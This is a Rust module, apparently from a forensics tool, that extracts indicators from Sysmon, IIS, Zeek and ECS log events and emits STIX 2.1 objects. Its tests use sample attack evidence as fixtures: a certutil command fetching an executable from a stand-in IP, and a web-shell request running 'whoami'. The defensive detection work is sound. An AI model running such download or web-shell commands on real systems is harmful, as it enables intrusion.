//! The observables in an evidence event, and the event as STIX cyber-observable objects.
//!
//! Indicators name addresses, domains, hashes and file names; events carry them in fields
//! whose names depend on the evidence (`DestinationIp` in Sysmon, `c-ip` in IIS, `id.resp_h`
//! in Zeek, `destination.ip` in ECS). Which field plays which part is data
//! (`data/observables.toml`, extendable by the user); this module only knows the parts
//! ([`Role`]). The walk visits the fields the event has, so its cost follows the event's size
//! and not the size of the field map.
//!
//! Two products: [`Extracted`], normalised [`Observable`]s for the indicator index, each with
//! the field it came from; and [`Extractor::stix_objects`], the event as an `observed-data`
//! plus SCOs (`network-traffic`, `file`, `process`…) with the values as written, which is
//! what the full STIX pattern matcher needs.

use std::collections::HashMap;
use std::net::IpAddr;

use chrono::{DateTime, SecondsFormat, Utc};
use serde::Deserialize;
use serde_json::{Map, Value, json};
use tiaki_evidence::Event;

use crate::observable::{Observable, ObservableKind as K, normalise, parse_ip, url_host};

/// The field map built into tiaki.
pub const DEFAULT_FIELD_MAP: &str = include_str!("../data/observables.toml");

/// The part a field plays (see `data/observables.toml` for each role's meaning).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[allow(missing_docs)] // Each variant is documented in data/observables.toml.
pub enum Role {
    Ip,
    SrcIp,
    DstIp,
    SrcPort,
    DstPort,
    Domain,
    DnsQuery,
    DnsAnswers,
    HttpHost,
    Url,
    UrlPath,
    UrlQuery,
    HttpMethod,
    UserAgent,
    Hashes,
    Md5,
    Sha1,
    Sha256,
    Sha512,
    Imphash,
    FilePath,
    FileName,
    ProcessImage,
    CommandLine,
    ParentImage,
    ParentCommandLine,
    RegistryKey,
    Account,
    Email,
    Mutex,
    Text,
}

/// A field map that could not be read.
#[derive(Debug, thiserror::Error)]
pub enum FieldMapError {
    /// Not TOML, or not the shape `[roles] role = ["Field", …]`.
    #[error("{origin}: {message}")]
    Syntax {
        /// The file (or `built-in`).
        origin: String,
        /// What was wrong.
        message: String,
    },
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct FieldMapFile {
    roles: HashMap<Role, Vec<String>>,
}

/// Finds observables in events by field name.
#[derive(Debug, Clone)]
pub struct Extractor {
    by_name: HashMap<Box<str>, u32, foldhash::fast::RandomState>,
    names: Vec<(Box<str>, Role)>,
    /// Some mapped name has a dot, so nested objects must be walked.
    nested: bool,
    /// The kinds worth extracting (bit `kind as u32`): the others are never looked up, so
    /// they are not normalised at all.
    wanted: u32,
}

impl Default for Extractor {
    /// The built-in field map.
    fn default() -> Self {
        let mut x = Extractor {
            by_name: HashMap::default(),
            names: Vec::new(),
            nested: false,
            wanted: u32::MAX,
        };
        x.add_map("built-in", DEFAULT_FIELD_MAP)
            .expect("the built-in field map is valid");
        x
    }
}

/// The observables of one event, in the order the fields had them, without repeats.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Extracted {
    /// The observables, normalised.
    pub observables: Vec<Observable>,
    /// For each observable, the field it came from (an id for [`Extractor::field_name`]).
    pub fields: Vec<u32>,
    /// The kinds being extracted (copied from the extractor).
    wanted: u32,
}

impl Extracted {
    /// Empties both lists, keeping their memory.
    pub fn clear(&mut self) {
        self.observables.clear();
        self.fields.clear();
    }

    fn wants(&self, kind: K) -> bool {
        self.wanted & (1 << kind as u32) != 0
    }

    fn push(&mut self, kind: K, raw: &str, field: u32) {
        if !self.wants(kind) {
            return;
        }
        let Some(value) = normalise(kind, raw) else {
            return;
        };
        if self
            .observables
            .iter()
            .any(|o| o.kind == kind && o.value == value)
        {
            return;
        }
        self.observables.push(Observable { kind, value });
        self.fields.push(field);
    }

    fn push_ip(&mut self, raw: &str, field: u32) {
        if let Some(ip) = parse_ip(raw) {
            let kind = if ip.is_ipv4() { K::Ipv4 } else { K::Ipv6 };
            self.push(kind, &ip.to_string(), field);
        }
    }

    fn push_host(&mut self, raw: &str, field: u32) {
        let host = raw.trim();
        // `host:port` in Host headers.
        let host = match host.rsplit_once(':') {
            Some((h, p)) if !h.contains(':') && p.bytes().all(|b| b.is_ascii_digit()) => h,
            _ => host,
        };
        if parse_ip(host).is_some() {
            self.push_ip(host, field);
        } else {
            self.push(K::Domain, host, field);
        }
    }

    fn push_url(&mut self, raw: &str, field: u32) {
        if let Some(url) = normalise(K::Url, raw) {
            if let Some(host) = url_host(&url) {
                let host = host.to_string();
                self.push_host(&host, field);
            }
            self.push(K::Url, &url, field);
        }
    }

    fn push_path(&mut self, raw: &str, field: u32) {
        if !self.wants(K::FilePath) && !self.wants(K::FileName) && !self.wants(K::RegistryKey) {
            return;
        }
        let t = raw.trim();
        // `get`: the 10th byte may fall inside a multi-byte character (fuzzing found it).
        if t.len() > 10
            && t.get(..10)
                .is_some_and(|p| p.eq_ignore_ascii_case("\\registry\\"))
        {
            self.push(K::RegistryKey, t, field);
            return;
        }
        self.push(K::FilePath, t, field);
        self.push(K::FileName, t, field);
    }
}

impl Extractor {
    /// An extractor with the built-in map extended by `text` (a file of the same shape).
    pub fn with_extra(origin: &str, text: &str) -> Result<Extractor, FieldMapError> {
        let mut x = Extractor::default();
        x.add_map(origin, text)?;
        Ok(x)
    }

    /// Adds the roles of a field-map file; a field already mapped keeps its first role.
    pub fn add_map(&mut self, origin: &str, text: &str) -> Result<(), FieldMapError> {
        let file: FieldMapFile = toml::from_str(text).map_err(|e| FieldMapError::Syntax {
            origin: origin.to_string(),
            message: e.to_string(),
        })?;
        // A stable order, so that field ids do not depend on hash order.
        let mut roles: Vec<_> = file.roles.into_iter().collect();
        roles.sort_by_key(|(r, _)| format!("{r:?}"));
        for (role, names) in roles {
            for name in names {
                if self.by_name.contains_key(name.as_str()) {
                    continue;
                }
                self.nested |= name.contains('.');
                let id = self.names.len() as u32;
                self.by_name.insert(name.clone().into_boxed_str(), id);
                self.names.push((name.into_boxed_str(), role));
            }
        }
        Ok(())
    }

    /// Extracts only observables of `kinds` (the kinds some indicator tests): the rest would
    /// be normalised for nothing. By default every kind is extracted.
    pub fn restrict_to(&mut self, kinds: impl IntoIterator<Item = K>) {
        self.wanted = kinds.into_iter().fold(0, |m, k| m | (1 << k as u32));
    }

    /// The name of the field behind an id in [`Extracted::fields`].
    pub fn field_name(&self, id: u32) -> &str {
        self.names.get(id as usize).map_or("", |(n, _)| n)
    }

    /// How many field names are mapped.
    pub fn len(&self) -> usize {
        self.names.len()
    }

    /// True when no field is mapped.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }

    /// Visits every mapped field of `fields` (nested objects by dotted path) with its id.
    fn walk<'e>(
        &self,
        fields: &'e Map<String, Value>,
        visit: &mut dyn FnMut(u32, Role, &'e Value),
    ) {
        for (k, v) in fields {
            if let Some(&id) = self.by_name.get(k.as_str()) {
                visit(id, self.names[id as usize].1, v);
            } else if self.nested
                && let Value::Object(inner) = v
            {
                self.walk_nested(k, inner, visit);
            }
        }
    }

    fn walk_nested<'e>(
        &self,
        prefix: &str,
        fields: &'e Map<String, Value>,
        visit: &mut dyn FnMut(u32, Role, &'e Value),
    ) {
        let mut path = String::with_capacity(prefix.len() + 16);
        for (k, v) in fields {
            path.clear();
            path.push_str(prefix);
            path.push('.');
            path.push_str(k);
            if let Some(&id) = self.by_name.get(path.as_str()) {
                visit(id, self.names[id as usize].1, v);
            } else if let Value::Object(inner) = v {
                let p = path.clone();
                self.walk_nested(&p, inner, visit);
            }
        }
    }

    /// The observables of `event`, into `out` (cleared first).
    pub fn extract(&self, event: &Event, out: &mut Extracted) {
        out.clear();
        out.wanted = self.wanted;
        let mut web = WebParts::default();
        self.walk(&event.fields, &mut |id, role, value| {
            for_each_text(value, &mut |text| {
                observe(role, id, text, out, &mut web);
            });
        });
        if let Some(url) = web.url() {
            out.push_url(&url, web.path_field);
        }
    }

    /// The event as STIX 2.1 objects: one `observed-data` (time = the event's, or the epoch
    /// when it has none) and the SCOs its fields describe, with values as written. The SCO ids
    /// are local to the list (`file--0`, `ipv4-addr--1`…); the `observed-data` is first.
    pub fn stix_objects(&self, event: &Event) -> Vec<Value> {
        let mut b = StixBuilder::default();
        let mut web = WebParts::default();
        self.walk(&event.fields, &mut |id, role, value| {
            for_each_text(value, &mut |text| {
                b.add(role, text);
                web.note(role, id, text);
            });
        });
        if let Some(url) = web.url() {
            b.add(Role::Url, &url);
        }
        b.finish(event.timestamp)
    }
}

/// Calls `f` with each textual value of a field: strings, numbers, and the items of arrays.
fn for_each_text(value: &Value, f: &mut dyn FnMut(&str)) {
    match value {
        Value::String(s) => f(s),
        Value::Number(n) => f(&n.to_string()),
        Value::Array(items) => {
            for item in items {
                match item {
                    Value::String(s) => f(s),
                    Value::Number(n) => f(&n.to_string()),
                    _ => {}
                }
            }
        }
        _ => {}
    }
}

/// The pieces of a web request spread over several columns (IIS, Apache, Zeek http.log),
/// from which a URL is rebuilt.
#[derive(Default)]
struct WebParts {
    host: Option<String>,
    server_ip: Option<String>,
    port: Option<u16>,
    path: Option<String>,
    query: Option<String>,
    path_field: u32,
}

impl WebParts {
    fn note(&mut self, role: Role, id: u32, text: &str) {
        let t = text.trim();
        if t.is_empty() || t == "-" {
            return;
        }
        match role {
            Role::HttpHost => self.host = Some(t.to_string()),
            Role::DstIp => self.server_ip = Some(t.to_string()),
            Role::DstPort => self.port = t.parse().ok(),
            Role::UrlPath if t.starts_with('/') => {
                self.path = Some(t.to_string());
                self.path_field = id;
            }
            Role::UrlQuery => self.query = Some(t.to_string()),
            _ => {}
        }
    }

    /// `scheme://host[:port]/path[?query]`, when a path and a host are known.
    fn url(&self) -> Option<String> {
        let path = self.path.as_deref()?;
        let host = self.host.as_deref().or(self.server_ip.as_deref())?;
        let host = match parse_ip(host) {
            Some(IpAddr::V6(a)) => format!("[{a}]"),
            _ => host.to_string(),
        };
        let (scheme, port) = match self.port {
            Some(443) => ("https", String::new()),
            Some(80) | None => ("http", String::new()),
            Some(p) if host.contains(':') && !host.starts_with('[') => ("http", format!("{p}")),
            Some(p) => ("http", format!(":{p}")),
        };
        let port = if host
            .rsplit_once(':')
            .is_some_and(|(_, p)| p.parse::<u16>().is_ok())
            && !host.starts_with('[')
        {
            String::new()
        } else {
            port
        };
        let mut url = format!("{scheme}://{host}{port}{path}");
        if let Some(q) = &self.query {
            url.push('?');
            url.push_str(q);
        }
        Some(url)
    }
}

/// Records what one field value says.
fn observe(role: Role, id: u32, text: &str, out: &mut Extracted, web: &mut WebParts) {
    web.note(role, id, text);
    match role {
        Role::Ip | Role::SrcIp | Role::DstIp => {
            for part in text.split([',', ';', ' ']).filter(|p| !p.is_empty()) {
                out.push_ip(part, id);
            }
        }
        Role::DstPort => out.push(K::Port, text, id),
        Role::SrcPort | Role::HttpMethod | Role::UrlQuery => {}
        Role::Domain | Role::DnsQuery | Role::HttpHost => {
            if text.trim() != "-" {
                out.push_host(text, id);
            }
        }
        Role::DnsAnswers => {
            for token in text.split([';', ' ', ',']).filter(|t| !t.is_empty()) {
                if parse_ip(token).is_some() {
                    out.push_ip(token, id);
                } else if token.contains('.') {
                    out.push(K::Domain, token, id);
                }
            }
        }
        Role::Url => out.push_url(text, id),
        Role::UrlPath => {
            // A web shell's name in a request path (`/aspnet_client/shell.aspx`).
            let last = text.rsplit('/').next().unwrap_or("");
            if last.contains('.') {
                out.push(K::FileName, last, id);
            }
        }
        Role::UserAgent => {
            // W3C logs write spaces as '+'.
            if !text.contains(' ') && text.contains('+') {
                out.push(K::UserAgent, &text.replace('+', " "), id);
            } else {
                out.push(K::UserAgent, text, id);
            }
        }
        Role::Hashes => {
            for (kind, hex) in hash_list(text) {
                out.push(kind, hex, id);
            }
        }
        Role::Md5 => out.push(K::Md5, text, id),
        Role::Sha1 => out.push(K::Sha1, text, id),
        Role::Sha256 => out.push(K::Sha256, text, id),
        Role::Sha512 => out.push(K::Sha512, text, id),
        Role::Imphash => out.push(K::Imphash, text, id),
        Role::FilePath | Role::ProcessImage | Role::ParentImage => out.push_path(text, id),
        Role::FileName => out.push(K::FileName, text, id),
        Role::CommandLine | Role::ParentCommandLine => {
            out.push(K::CommandLine, text, id);
            if out.wants(K::Ipv4) || out.wants(K::Url) || out.wants(K::Domain) {
                scan_text(text, id, out);
            }
        }
        Role::RegistryKey => out.push(K::RegistryKey, text, id),
        Role::Account => {
            if text.trim() != "-" {
                out.push(K::Account, text, id);
            }
        }
        Role::Email => out.push(K::Email, text, id),
        Role::Mutex => out.push(K::Mutex, text, id),
        Role::Text => {
            if out.wants(K::Ipv4) || out.wants(K::Url) || out.wants(K::Domain) {
                scan_text(text, id, out);
            }
        }
    }
}

/// The digests in a Sysmon-style list (`SHA1=…,MD5=…,SHA256=…,IMPHASH=…`), or a bare digest
/// whose kind its length tells.
fn hash_list(text: &str) -> impl Iterator<Item = (K, &str)> {
    text.split([',', ';', ' ']).filter_map(|part| {
        let part = part.trim();
        match part.split_once('=') {
            Some((alg, hex)) => {
                let kind = match alg.trim().to_ascii_uppercase().replace('-', "").as_str() {
                    "MD5" => K::Md5,
                    "SHA1" => K::Sha1,
                    "SHA256" => K::Sha256,
                    "SHA512" => K::Sha512,
                    "IMPHASH" => K::Imphash,
                    _ => return None,
                };
                Some((kind, hex))
            }
            None => match part.len() {
                32 => Some((K::Md5, part)),
                40 => Some((K::Sha1, part)),
                64 => Some((K::Sha256, part)),
                128 => Some((K::Sha512, part)),
                _ => None,
            },
        }
    })
}

/// IPv4 addresses and URLs inside free text (log messages, command lines, script blocks).
fn scan_text(text: &str, id: u32, out: &mut Extracted) {
    let bytes = text.as_bytes();
    // IPv4: maximal runs of digits and dots that start and end on a word boundary. A run
    // needs three dots, so text with fewer is not scanned at all.
    if memchr::memchr_iter(b'.', bytes).nth(2).is_some() {
        let mut i = 0;
        while i < bytes.len() {
            let b = bytes[i];
            if !b.is_ascii_digit() {
                i += 1;
                continue;
            }
            let start = i;
            let boundary = i == 0 || !is_word(bytes[i - 1]);
            while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
                i += 1;
            }
            if !boundary || i - start < 7 {
                continue;
            }
            let run = text[start..i].trim_end_matches('.');
            if run.bytes().filter(|&b| b == b'.').count() == 3
                && (i >= bytes.len() || !bytes[i].is_ascii_alphabetic())
                && let Ok(a) = run.parse::<std::net::Ipv4Addr>()
            {
                out.push(K::Ipv4, &a.to_string(), id);
            }
        }
    }
    // URLs: around each "://".
    for at in memchr::memmem::find_iter(bytes, b"://") {
        let mut s = at;
        while s > 0
            && (bytes[s - 1].is_ascii_alphanumeric() || matches!(bytes[s - 1], b'+' | b'-' | b'.'))
        {
            s -= 1;
        }
        let mut e = at + 3;
        while e < bytes.len()
            && !matches!(
                bytes[e],
                b' ' | b'\t' | b'\r' | b'\n' | b'"' | b'\'' | b'<' | b'>' | b'`' | b')'
            )
        {
            e += 1;
        }
        if s < at && e > at + 3 {
            out.push_url(&text[s..e], id);
        }
    }
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'.' || b == b'_'
}

/// Assembles SCOs from role-tagged values.
#[derive(Default)]
struct StixBuilder {
    objects: Vec<Value>,
    /// Address text → SCO id, so one address is one SCO.
    addrs: HashMap<String, String>,
    src: Option<String>,
    dst: Option<String>,
    src_port: Option<u64>,
    dst_port: Option<u64>,
    method: Option<String>,
    user_agent: Option<String>,
    file: Option<usize>,
    process: Map<String, Value>,
    parent: Map<String, Value>,
    image: Option<String>,
    parent_image: Option<String>,
    hashes: Map<String, Value>,
}

impl StixBuilder {
    fn push(&mut self, kind: &str, mut body: Map<String, Value>) -> String {
        let id = format!("{kind}--{}", self.objects.len());
        body.insert("type".into(), kind.into());
        body.insert("id".into(), id.clone().into());
        self.objects.push(Value::Object(body));
        id
    }

    fn addr(&mut self, text: &str) -> Option<String> {
        let ip = parse_ip(text)?;
        let key = ip.to_string();
        if let Some(id) = self.addrs.get(&key) {
            return Some(id.clone());
        }
        let kind = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        let mut m = Map::new();
        m.insert("value".into(), key.clone().into());
        let id = self.push(kind, m);
        self.addrs.insert(key, id.clone());
        Some(id)
    }

    fn file(&mut self, path: &str) -> String {
        let t = path.trim();
        let (dir, name) = match t.rfind(['\\', '/']) {
            Some(i) => (Some(&t[..i]), &t[i + 1..]),
            None => (None, t),
        };
        let mut m = Map::new();
        m.insert("name".into(), name.into());
        if let Some(dir) = dir.filter(|d| !d.is_empty()) {
            let mut d = Map::new();
            d.insert("path".into(), dir.into());
            let did = self.push("directory", d);
            m.insert("parent_directory_ref".into(), did.into());
        }
        let id = self.push("file", m);
        if self.file.is_none() {
            self.file = Some(self.objects.len() - 1);
        }
        id
    }

    fn simple(&mut self, kind: &str, prop: &str, value: &str) {
        let mut m = Map::new();
        m.insert(prop.into(), value.into());
        self.push(kind, m);
    }

    fn add(&mut self, role: Role, text: &str) {
        let t = text.trim();
        if t.is_empty() || t == "-" {
            return;
        }
        match role {
            Role::Ip => {
                for p in t.split([',', ';', ' ']).filter(|p| !p.is_empty()) {
                    self.addr(p);
                }
            }
            Role::SrcIp => self.src = self.addr(t).or(self.src.take()),
            Role::DstIp => self.dst = self.addr(t).or(self.dst.take()),
            Role::SrcPort => self.src_port = t.parse().ok().or(self.src_port),
            Role::DstPort => self.dst_port = t.parse().ok().or(self.dst_port),
            Role::Domain | Role::DnsQuery | Role::HttpHost => {
                if parse_ip(t).is_some() {
                    self.addr(t);
                } else {
                    self.simple("domain-name", "value", t);
                }
            }
            Role::DnsAnswers => {
                for token in t.split([';', ' ', ',']).filter(|x| !x.is_empty()) {
                    self.addr(token);
                }
            }
            Role::Url => self.simple("url", "value", t),
            Role::UrlPath | Role::UrlQuery => {}
            Role::HttpMethod => self.method = Some(t.to_string()),
            Role::UserAgent => self.user_agent = Some(t.to_string()),
            Role::Hashes => {
                for (kind, hex) in hash_list(t) {
                    self.hash(kind, hex);
                }
            }
            Role::Md5 => self.hash(K::Md5, t),
            Role::Sha1 => self.hash(K::Sha1, t),
            Role::Sha256 => self.hash(K::Sha256, t),
            Role::Sha512 => self.hash(K::Sha512, t),
            Role::Imphash => {}
            Role::FilePath | Role::FileName => {
                // `get`: the 10th byte may fall inside a multi-byte character (fuzzing found it).
                if t.len() > 10
                    && t.get(..10)
                        .is_some_and(|p| p.eq_ignore_ascii_case("\\registry\\"))
                {
                    self.simple("windows-registry-key", "key", t);
                } else {
                    self.file(t);
                }
            }
            Role::ProcessImage => {
                let id = self.file(t);
                self.image = Some(id);
            }
            Role::ParentImage => {
                let id = self.file(t);
                self.parent_image = Some(id);
            }
            Role::CommandLine => {
                self.process.insert("command_line".into(), t.into());
            }
            Role::ParentCommandLine => {
                self.parent.insert("command_line".into(), t.into());
            }
            Role::RegistryKey => self.simple("windows-registry-key", "key", t),
            Role::Account => self.simple("user-account", "account_login", t),
            Role::Email => self.simple("email-addr", "value", t),
            Role::Mutex => self.simple("mutex", "name", t),
            Role::Text => {}
        }
    }

    fn hash(&mut self, kind: K, hex: &str) {
        let name = match kind {
            K::Md5 => "MD5",
            K::Sha1 => "SHA-1",
            K::Sha256 => "SHA-256",
            K::Sha512 => "SHA-512",
            _ => return,
        };
        let hex = hex.trim();
        if !hex.is_empty() {
            self.hashes.insert(name.into(), hex.into());
        }
    }

    fn finish(mut self, time: Option<DateTime<Utc>>) -> Vec<Value> {
        // Hashes belong to the event's first file (the image in Sysmon 1, the loaded image in
        // Sysmon 7, the created file in Sysmon 15); without one they make a nameless file.
        if !self.hashes.is_empty() {
            let hashes = Value::Object(std::mem::take(&mut self.hashes));
            match self.file {
                Some(i) => {
                    self.objects[i]["hashes"] = hashes;
                }
                None => {
                    let mut m = Map::new();
                    m.insert("hashes".into(), hashes);
                    self.push("file", m);
                }
            }
        }
        if self.image.is_some() || !self.process.is_empty() {
            let mut p = std::mem::take(&mut self.process);
            if let Some(img) = self.image.take() {
                p.insert("image_ref".into(), img.into());
            }
            if self.parent_image.is_some() || !self.parent.is_empty() {
                let mut pp = std::mem::take(&mut self.parent);
                if let Some(img) = self.parent_image.take() {
                    pp.insert("image_ref".into(), img.into());
                }
                let pid = self.push("process", pp);
                p.insert("parent_ref".into(), pid.into());
            }
            self.push("process", p);
        }
        if self.src.is_some()
            || self.dst.is_some()
            || self.dst_port.is_some()
            || self.user_agent.is_some()
            || self.method.is_some()
        {
            let mut nt = Map::new();
            if let Some(s) = self.src.take() {
                nt.insert("src_ref".into(), s.into());
            }
            if let Some(d) = self.dst.take() {
                nt.insert("dst_ref".into(), d.into());
            }
            if let Some(p) = self.src_port {
                nt.insert("src_port".into(), p.into());
            }
            if let Some(p) = self.dst_port {
                nt.insert("dst_port".into(), p.into());
            }
            nt.insert("protocols".into(), json!(["tcp"]));
            if self.user_agent.is_some() || self.method.is_some() {
                let mut http = Map::new();
                if let Some(m) = self.method.take() {
                    http.insert("request_method".into(), m.to_lowercase().into());
                }
                if let Some(ua) = self.user_agent.take() {
                    let ua = if !ua.contains(' ') && ua.contains('+') {
                        ua.replace('+', " ")
                    } else {
                        ua
                    };
                    http.insert("request_header".into(), json!({ "User-Agent": ua }));
                }
                nt.insert("extensions".into(), json!({ "http-request-ext": http }));
            }
            self.push("network-traffic", nt);
        }
        let when = time
            .unwrap_or(DateTime::<Utc>::UNIX_EPOCH)
            .to_rfc3339_opts(SecondsFormat::AutoSi, true);
        let refs: Vec<Value> = self.objects.iter().map(|o| o["id"].clone()).collect();
        let observed = json!({
            "type": "observed-data",
            "id": "observed-data--0",
            "first_observed": when,
            "last_observed": when,
            "number_observed": 1,
            "object_refs": refs,
        });
        let mut all = Vec::with_capacity(self.objects.len() + 1);
        all.push(observed);
        all.extend(self.objects);
        all
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use tiaki_evidence::{Format, LogSource, Origin};

    fn event(fields: Value) -> Event {
        Event {
            origin: Origin {
                path: Arc::from("t.jsonl"),
                record_id: None,
                line: Some(1),
                recovered: false,
            },
            timestamp: Some("2021-03-15T02:10:00Z".parse().unwrap()),
            format: Format::Json,
            logsource: LogSource::default(),
            fields: fields.as_object().unwrap().clone(),
        }
    }

    fn found(x: &Extractor, e: &Event) -> Vec<(String, String, String)> {
        let mut out = Extracted::default();
        x.extract(e, &mut out);
        out.observables
            .iter()
            .zip(&out.fields)
            .map(|(o, f)| {
                (
                    o.kind.to_string(),
                    o.value.clone(),
                    x.field_name(*f).to_string(),
                )
            })
            .collect()
    }

    fn has(v: &[(String, String, String)], kind: &str, value: &str) -> bool {
        v.iter().any(|(k, val, _)| k == kind && val == value)
    }

    #[test]
    fn sysmon_process_creation() {
        let x = Extractor::default();
        let e = event(json!({
            "EventID": 1,
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c certutil -urlcache -f http://203.0.113.7/p.exe p.exe",
            "Hashes": "SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00000000000000000000000000000000",
            "User": "PCO\\svc_web",
            "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
        }));
        let v = found(&x, &e);
        assert!(has(&v, "file-name", "cmd.exe"));
        assert!(has(&v, "file-path", "c:\\windows\\system32\\cmd.exe"));
        assert!(has(&v, "sha1", "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"));
        assert!(has(&v, "md5", "d41d8cd98f00b204e9800998ecf8427e"));
        assert!(has(&v, "imphash", "00000000000000000000000000000000"));
        assert!(has(&v, "ipv4", "203.0.113.7"), "{v:?}");
        assert!(has(&v, "url", "http://203.0.113.7/p.exe"));
        assert!(has(&v, "account", "pco\\svc_web"));
        assert!(has(&v, "file-name", "w3wp.exe"));
        let ip = v.iter().find(|(k, _, _)| k == "ipv4").unwrap();
        assert_eq!(ip.2, "CommandLine");
    }

    #[test]
    fn iis_request_becomes_a_url() {
        let x = Extractor::default();
        let e = event(json!({
            "s-ip": "10.0.0.5", "cs-method": "POST",
            "cs-uri-stem": "/aspnet_client/system_web/shell.aspx", "cs-uri-query": "cmd=whoami",
            "s-port": "443", "c-ip": "203.0.113.7",
            "cs-user-agent": "Mozilla/5.0+(Windows+NT+10.0)", "cs-host": "www.pco.example",
        }));
        let v = found(&x, &e);
        assert!(
            has(
                &v,
                "url",
                "https://www.pco.example/aspnet_client/system_web/shell.aspx?cmd=whoami"
            ),
            "{v:?}"
        );
        assert!(has(&v, "domain", "www.pco.example"));
        assert!(has(&v, "ipv4", "203.0.113.7"));
        assert!(has(&v, "file-name", "shell.aspx"));
        assert!(has(&v, "user-agent", "Mozilla/5.0 (Windows NT 10.0)"));
        assert!(has(&v, "port", "443"));
    }

    #[test]
    fn nested_ecs_zeek_and_dns_answers() {
        let x = Extractor::default();
        let e = event(json!({
            "source": {"ip": "2001:0db8::0001", "port": 5050},
            "destination": {"ip": "198.51.100.9", "domain": "Evil.Example."},
            "QueryName": "update.evil.example",
            "QueryResults": "type:  5 cdn.evil.example;::ffff:198.51.100.10;",
            "id.resp_h": "192.0.2.44",
        }));
        let v = found(&x, &e);
        assert!(has(&v, "ipv6", "2001:db8::1"));
        assert!(has(&v, "ipv4", "198.51.100.9"));
        assert!(has(&v, "domain", "evil.example"));
        assert!(has(&v, "domain", "update.evil.example"));
        assert!(has(&v, "domain", "cdn.evil.example"));
        assert!(has(&v, "ipv4", "198.51.100.10"));
        assert!(has(&v, "ipv4", "192.0.2.44"));
        let src = v.iter().find(|(k, _, _)| k == "ipv6").unwrap();
        assert_eq!(src.2, "source.ip");
    }

    #[test]
    fn syslog_text_and_registry_object_names() {
        let x = Extractor::default();
        let e = event(json!({
            "program": "sshd",
            "message": "Accepted password for root from 203.0.113.7 port 52113 ssh2; version 1.2.3.4.5",
            "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        }));
        let v = found(&x, &e);
        assert!(has(&v, "ipv4", "203.0.113.7"));
        assert!(
            !has(&v, "ipv4", "1.2.3.4"),
            "a five-part version is not an address: {v:?}"
        );
        assert!(has(
            &v,
            "registry-key",
            "hkey_local_machine\\software\\microsoft\\windows\\currentversion\\run"
        ));
    }

    #[test]
    fn object_name_with_a_multibyte_character_at_byte_ten() {
        // Found by the `evtx` fuzz target: the `\REGISTRY\` prefix test sliced a path
        // inside a character.
        let x = Extractor::default();
        let e = event(json!({"ObjectName": "\\registr\u{5700}\\x.exe"}));
        let v = found(&x, &e);
        assert!(!v.iter().any(|o| o.0 == "registry-key"), "{v:?}");
    }

    #[test]
    fn repeats_are_dropped_and_dashes_ignored() {
        let x = Extractor::default();
        let e =
            event(json!({"SourceIp": "192.0.2.1", "IpAddress": "192.0.2.1", "cs-username": "-"}));
        let v = found(&x, &e);
        assert_eq!(v.len(), 1, "{v:?}");
    }

    #[test]
    fn only_wanted_kinds_are_extracted() {
        let mut x = Extractor::default();
        x.restrict_to([K::Ipv4]);
        let e = event(json!({
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "ping 192.0.2.9",
            "DestinationPort": 443,
        }));
        let v = found(&x, &e);
        assert_eq!(
            v,
            vec![("ipv4".into(), "192.0.2.9".into(), "CommandLine".into())]
        );
    }

    #[test]
    fn user_maps_extend_the_defaults() {
        let x = Extractor::with_extra("mine.toml", "[roles]\nsrc-ip = [\"peer_addr\"]\n").unwrap();
        let v = found(&x, &event(json!({"peer_addr": "192.0.2.8"})));
        assert!(has(&v, "ipv4", "192.0.2.8"));
        let err = Extractor::with_extra("bad.toml", "[roles]\nnot-a-role = [\"x\"]\n").unwrap_err();
        assert!(err.to_string().starts_with("bad.toml: "), "{err}");
    }

    #[test]
    fn stix_objects_describe_the_event() {
        let x = Extractor::default();
        let e = event(json!({
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c whoami",
            "Hashes": "MD5=D41D8CD98F00B204E9800998ECF8427E",
            "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "DestinationIp": "203.0.113.7", "DestinationPort": 443,
        }));
        let objs = x.stix_objects(&e);
        assert_eq!(objs[0]["type"], "observed-data");
        assert_eq!(objs[0]["first_observed"], "2021-03-15T02:10:00Z");
        let proc_ = objs
            .iter()
            .find(|p| p["type"] == "process" && p.get("command_line").is_some())
            .unwrap();
        assert_eq!(proc_["command_line"], "cmd /c whoami");
        let image_id = proc_["image_ref"].as_str().unwrap();
        let image = objs.iter().find(|o| o["id"] == image_id).unwrap();
        assert_eq!(image["name"], "cmd.exe");
        assert_eq!(image["hashes"]["MD5"], "D41D8CD98F00B204E9800998ECF8427E");
        let nt = objs
            .iter()
            .find(|o| o["type"] == "network-traffic")
            .unwrap();
        assert_eq!(nt["dst_port"], 443);
        let dst = objs.iter().find(|o| o["id"] == nt["dst_ref"]).unwrap();
        assert_eq!(dst["value"], "203.0.113.7");
        let refs = objs[0]["object_refs"].as_array().unwrap();
        assert_eq!(refs.len(), objs.len() - 1);
    }
}
